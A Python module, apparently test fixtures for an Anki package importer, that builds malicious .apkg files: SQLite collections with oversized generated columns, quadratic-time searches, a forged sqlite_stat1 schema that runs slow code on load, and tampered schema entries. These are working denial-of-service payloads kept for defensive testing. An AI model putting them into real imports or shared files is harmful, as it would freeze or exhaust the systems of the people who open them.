"""Files that call themselves Anki collections and are made to hurt whoever reads them."""

import io
import sqlite3
import zipfile
from contextlib import closing

NOTES = "CREATE TABLE notes (id integer primary key, guid text, flds text);"
CARDS = "CREATE TABLE cards (id integer primary key, nid, type, queue, ivl, data);"
REVLOG = "CREATE TABLE revlog (id integer primary key, cid, ease, type);"

MANY_ROWS = """
    WITH RECURSIVE n(id) AS (SELECT 1 UNION ALL SELECT id + 1 FROM n WHERE id < 400)
    INSERT INTO notes (id, guid) SELECT id, 'g' FROM n;
"""

SEARCH = "instr(printf('%.*c', 400000, 'a'), printf('%.*c', 200000, 'a') || 'b')"
"""Takes time with the product of both lengths, within a single step of SQLite."""

ROWS = """
    INSERT INTO notes VALUES (1, 'a', 'stone' || char(31) || 'a rock'), (2, 'b', 'reason');
    INSERT INTO cards VALUES (1, 1, 2, 2, 40, ''), (2, 2, 2, 2, 3, '');
"""


def collection(script: str) -> bytes:
    """The SQLite file that *script* makes."""
    with closing(sqlite3.connect(":memory:")) as database:
        database.executescript(script)
        return database.serialize()


def package(data: bytes, packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    """An .apkg with the collection *data*."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", packing) as archive:
        archive.writestr("collection.anki21", data)
    return buffer.getvalue()


def honest() -> bytes:
    """A package with two notes, one of them known."""
    return package(collection(NOTES + CARDS + ROWS))


def swelling() -> bytes:
    """A package of some 2 KB whose generated column is a megabyte long in each of 400 rows."""
    column = "flds text GENERATED ALWAYS AS (printf('%.*c', 1000000, 'x')) VIRTUAL"
    notes = NOTES.replace("flds text", column)
    return package(collection(f"{notes} {CARDS} {MANY_ROWS}"))


def brooding(searches: int = 3) -> bytes:
    """A package of half a kilobyte with a row that takes seconds to be computed."""
    column = f"flds text GENERATED ALWAYS AS ({' + '.join([SEARCH] * searches)}) VIRTUAL"
    plain = NOTES.replace(", flds text", "")
    row = "INSERT INTO notes VALUES (1, 'g');"
    forged = NOTES.replace("flds text", column).rstrip(";")
    return package(_forged(plain + CARDS + row, "notes", forged))


def brooding_statistics(searches: int = 8) -> bytes:
    """The same in statistics, which SQLite reads with the schema: before anybody can look."""
    slow = " + ".join([SEARCH] * searches)
    forged = f"CREATE TABLE sqlite_stat1(tbl, idx, stat AS ({slow}))"
    indexed = f"{NOTES} {CARDS} {ROWS} CREATE INDEX by_guid ON notes (guid); ANALYZE;"
    return package(_forged(indexed, "sqlite_stat1", forged))


def disguised(statement: str) -> bytes:
    """A collection whose table ``notes`` has *statement* in the schema; it has pages like one."""
    return _forged(NOTES + CARDS + ROWS, "notes", statement)


def sharing(length: int) -> bytes:
    """A collection with 400 rows, each of the same text, which is in the file once."""
    column = f"ALTER TABLE notes ADD COLUMN flds text DEFAULT '{'x' * length}';"
    return collection(NOTES.replace(", flds text", "") + CARDS + MANY_ROWS + column)


def _forged(script: str, name: str, statement: str) -> bytes:
    with closing(sqlite3.connect(":memory:")) as database:
        database.executescript(f"{script} PRAGMA writable_schema = ON;")
        database.execute("UPDATE sqlite_master SET sql = ? WHERE name = ?", (statement, name))
        database.commit()
        return database.serialize()
